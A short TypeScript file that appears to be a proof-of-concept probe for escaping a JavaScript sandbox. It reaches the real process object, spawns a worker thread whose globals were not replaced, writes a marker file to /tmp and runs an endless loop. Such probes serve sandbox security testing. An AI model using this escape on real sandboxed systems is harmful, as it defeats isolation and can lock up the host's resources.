// A thread has its own globals, and nobody replaced those.
import { realProcess } from "./real-process.ts";

realProcess.then((process) => {
  const { Worker } = process.getBuiltinModule("worker_threads");
  const code = "require('fs').writeFileSync('/tmp/wal-labs-attack', ''); for (;;);";
  new Worker(code, { eval: true });
});
